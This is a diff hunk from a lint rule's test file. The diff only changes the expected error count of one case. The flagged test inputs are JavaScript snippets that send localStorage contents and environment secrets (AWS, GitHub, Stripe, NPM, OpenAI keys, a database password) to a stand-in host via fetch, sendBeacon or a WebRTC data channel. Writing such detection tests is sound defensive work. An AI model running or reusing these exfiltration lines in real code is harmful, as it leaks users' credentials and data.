@@ -16,6 +16,6 @@ await ruleTester(rule, {
     { code: 'const channel = new RTCPeerConnection(config).createDataChannel(\'x\'); channel.send(JSON.stringify({ ...localStorage }));', errors: [{ messageId: 'sent' }] },
     { code: 'navigator.serviceWorker.onmessage = (e) => navigator.sendBeacon(\'https://c.stats-mirror.dev/x\', e.data); navigator.serviceWorker.controller.postMessage(JSON.stringify(localStorage));', errors: [{ messageId: 'sent' }] },
     { code: 'fetch(\'https://c.stats-mirror.dev/x\', { headers: { \'x-a\': process.env.AWS_SECRET_ACCESS_KEY, \'x-b\': process.env.GITHUB_TOKEN, \'x-c\': process.env.STRIPE_SECRET_KEY } });', errors: [{ messageId: 'several' }, { messageId: 'several' }, { messageId: 'several' }] },
-    { code: 'const headers = {}; headers[\'x-a\'] = process.env.NPM_TOKEN; headers[\'x-b\'] = process.env.OPENAI_API_KEY; headers[\'x-c\'] = process.env.DATABASE_PASSWORD; fetch(\'https://c.stats-mirror.dev/x\', { headers });', errors: [{ messageId: 'several' }, { messageId: 'several' }, { messageId: 'several' }] },
+    { code: 'const headers = {}; headers[\'x-a\'] = process.env.NPM_TOKEN; headers[\'x-b\'] = process.env.OPENAI_API_KEY; headers[\'x-c\'] = process.env.DATABASE_PASSWORD; fetch(\'https://c.stats-mirror.dev/x\', { headers });', errors: [{ messageId: 'several' }] },
   ],
 });
